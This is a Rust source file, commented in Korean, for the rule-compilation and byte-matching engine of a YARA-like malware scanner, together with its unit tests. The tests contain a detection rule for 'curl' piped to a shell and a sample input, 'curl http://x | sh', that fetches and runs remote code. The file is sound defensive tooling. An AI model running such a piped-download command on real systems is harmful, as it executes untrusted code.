//! 매칭 엔진 -- YARA 부분집합 규칙 컴파일 및 바이트 매칭
//!
//! 규칙 파일(`malware.yar`)을 파싱하고 컴파일하여 파일 내용에 대해 평가합니다.
//!
//! # 아키텍처
//! - [`MatchEngine`]: 디스패처가 사용하는 매칭 인터페이스
//! - [`RuleSet`]: 컴파일된 규칙 + 컴파일 경고
//! - [`parser`]: 규칙 소스 → 구문 트리
//! - [`matcher`]: 구문 트리 → 바이트 정규식 + 조건 평가
//! - [`types`]: 구문 트리 정의
//!
//! # 사용 예시
//! ```ignore
//! let rules = RuleSet::from_file(&rule_file, CompileOptions::default()).await?;
//! for m in rules.scan_bytes(&data) {
//!     let finding = m.into_finding("bin/payload");
//! }
//! ```

pub mod matcher;
pub mod parser;
pub mod types;

pub use matcher::{Compilation, CompiledRules};
pub use parser::{ParsedSource, parse_rules, parse_rules_recovering};

use std::collections::BTreeMap;
use std::path::Path;

use metrics::gauge;
use tracing::{info, warn};

use yarasweep_core::metrics as m;
use yarasweep_core::types::{Finding, Severity};

use crate::error::ScannerError;

/// 규칙 하나의 매칭 결과
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleMatch {
    /// 규칙 이름
    pub rule: String,
    /// `meta: severity`에서 결정된 심각도 (기본 `Low`)
    pub severity: Severity,
    /// 규칙 메타데이터
    pub metadata: BTreeMap<String, String>,
    /// 매칭된 문자열 식별자
    pub matched_strings: Vec<String>,
}

impl RuleMatch {
    /// 파일 위치를 붙여 [`Finding`]으로 변환합니다.
    pub fn into_finding(self, location: impl Into<String>) -> Finding {
        Finding {
            rule_id: self.rule,
            severity: self.severity,
            location: location.into(),
            metadata: self.metadata,
            matched_strings: self.matched_strings,
        }
    }
}

/// 매칭 엔진 인터페이스
///
/// 디스패처는 이 trait만 알고 있으므로 테스트에서 모의 엔진으로 교체할 수 있습니다.
/// 파일 순회 스레드에서 호출되므로 `Send + Sync`가 필요합니다.
pub trait MatchEngine: Send + Sync {
    /// 로드된 규칙 수
    fn rule_count(&self) -> usize;

    /// 바이트 데이터를 스캔하여 매칭된 규칙을 반환합니다.
    fn scan_bytes(&self, data: &[u8]) -> Vec<RuleMatch>;
}

/// 컴파일 옵션
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CompileOptions {
    /// 경고가 하나라도 있으면 컴파일 실패로 처리
    pub fail_on_warning: bool,
}

/// 컴파일된 규칙 집합
#[derive(Debug)]
pub struct RuleSet {
    compiled: CompiledRules,
    warnings: Vec<String>,
}

impl RuleSet {
    /// 규칙 소스를 컴파일합니다.
    ///
    /// 지원하지 않는 문법이나 잘못된 패턴이 있는 규칙은 경고와 함께 제외됩니다
    /// (`rule skipped: ...`). 나머지 규칙은 그대로 로드됩니다.
    ///
    /// # Errors
    ///
    /// - 규칙 경계를 찾을 수 없는 문법 오류: `RuleSyntax`
    /// - `fail_on_warning`이고 제외된 규칙이 있으면: 첫 번째 규칙의 에러
    /// - 제외된 규칙만 있고 남은 규칙이 없으면: 첫 번째 규칙의 에러
    /// - `fail_on_warning`이고 경고가 있으면: `CompileWarnings`
    pub fn compile(source: &str, options: CompileOptions) -> Result<Self, ScannerError> {
        let this = Self::build(source, options)?;
        gauge!(m::SCANNER_RULES_LOADED).set(this.compiled.len() as f64);
        info!(
            rules = this.compiled.len(),
            warnings = this.warnings.len(),
            "rules compiled"
        );
        Ok(this)
    }

    /// 규칙 소스가 [`compile`](Self::compile)을 통과하는지 확인하고 규칙 수를 반환합니다.
    ///
    /// 게이지를 갱신하지 않으므로 설치 전 검증에 사용합니다.
    pub fn check(source: &str, options: CompileOptions) -> Result<usize, ScannerError> {
        Self::build(source, options).map(|this| this.compiled.len())
    }

    fn build(source: &str, options: CompileOptions) -> Result<Self, ScannerError> {
        let (parsed, mut rejected) = parse_rules_recovering(source)?;
        let Compilation {
            rules: compiled,
            mut warnings,
            rejected: failed,
        } = CompiledRules::compile_each(&parsed);
        rejected.extend(failed);

        if !rejected.is_empty() && (options.fail_on_warning || compiled.is_empty()) {
            return Err(rejected.remove(0));
        }
        warnings.extend(rejected.iter().map(|e| format!("rule skipped: {e}")));

        for warning in &warnings {
            warn!(warning = %warning, "rule compilation warning");
        }
        if options.fail_on_warning && !warnings.is_empty() {
            return Err(ScannerError::CompileWarnings(warnings));
        }

        info!(
            rules = compiled.len(),
            warnings = warnings.len(),
            "rules compiled"
        );
        Ok(Self { compiled, warnings })
    }

    /// 규칙 파일을 읽어 컴파일합니다.
    pub async fn from_file(path: &Path, options: CompileOptions) -> Result<Self, ScannerError> {
        let source = tokio::fs::read_to_string(path)
            .await
            .map_err(|e| ScannerError::Io {
                path: path.display().to_string(),
                source: e,
            })?;
        Self::compile(&source, options)
    }

    /// 컴파일 경고
    pub fn warnings(&self) -> &[String] {
        &self.warnings
    }
}

impl MatchEngine for RuleSet {
    fn rule_count(&self) -> usize {
        self.compiled.len()
    }

    fn scan_bytes(&self, data: &[u8]) -> Vec<RuleMatch> {
        self.compiled.scan(data)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const RULES: &str = r#"
        rule suspicious_script {
            meta:
                severity = "medium"
                description = "curl piped to shell"
            strings:
                $a = "curl"
                $b = "| sh"
            condition:
                $a and $b
        }
    "#;

    #[test]
    fn compile_and_scan() {
        let rules = RuleSet::compile(RULES, CompileOptions::default()).unwrap();
        assert_eq!(rules.rule_count(), 1);
        assert!(rules.warnings().is_empty());

        let matches = rules.scan_bytes(b"curl http://x | sh");
        assert_eq!(matches.len(), 1);
        let finding = matches[0].clone().into_finding("install.sh");
        assert_eq!(finding.rule_id, "suspicious_script");
        assert_eq!(finding.severity, Severity::Medium);
        assert_eq!(finding.location, "install.sh");
        assert_eq!(finding.matched_strings, vec!["$a", "$b"]);
    }

    #[test]
    fn warnings_fatal_only_when_strict() {
        let source = r#"rule lonely { condition: true }"#;
        let lenient = RuleSet::compile(source, CompileOptions::default()).unwrap();
        assert_eq!(lenient.warnings().len(), 1);

        let err = RuleSet::compile(
            source,
            CompileOptions {
                fail_on_warning: true,
            },
        )
        .unwrap_err();
        assert!(matches!(err, ScannerError::CompileWarnings(ref w) if w.len() == 1));
    }

    const MIXED: &str = r#"
        import "pe"
        rule pe_only { condition: pe.number_of_sections > 3 }
        rule mz { strings: $a = "payload" condition: uint16(0) == 0x5A4D and $a }
    "#;

    #[test]
    fn unsupported_rules_are_skipped_when_lenient() {
        let rules = RuleSet::compile(MIXED, CompileOptions::default()).unwrap();
        assert_eq!(rules.rule_count(), 1);
        assert!(rules.warnings().iter().any(|w| w.starts_with("rule skipped:")));
        assert_eq!(rules.scan_bytes(b"MZ payload").len(), 1);
    }

    #[test]
    fn unsupported_rules_fail_when_strict() {
        let strict = CompileOptions {
            fail_on_warning: true,
        };
        let err = RuleSet::compile(MIXED, strict).unwrap_err();
        assert!(err.to_string().contains("module 'pe'"), "{err}");
        assert!(RuleSet::check(MIXED, strict).is_err());
        assert_eq!(RuleSet::check(MIXED, CompileOptions::default()).unwrap(), 1);
    }

    #[test]
    fn nothing_compiled_is_an_error() {
        let err = RuleSet::compile(
            r#"rule broken { strings: $a = "x" }"#,
            CompileOptions::default(),
        )
        .unwrap_err();
        assert!(err.is_compile_error());
    }

    #[tokio::test]
    async fn from_file_missing_is_io_error() {
        let err = RuleSet::from_file(Path::new("/nonexistent/malware.yar"), CompileOptions::default())
            .await
            .unwrap_err();
        assert!(matches!(err, ScannerError::Io { .. }));
    }

    #[tokio::test]
    async fn from_file_reads_rules() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("malware.yar");
        tokio::fs::write(&path, RULES).await.unwrap();
        let rules = RuleSet::from_file(&path, CompileOptions::default())
            .await
            .unwrap();
        assert_eq!(rules.rule_count(), 1);
    }
}
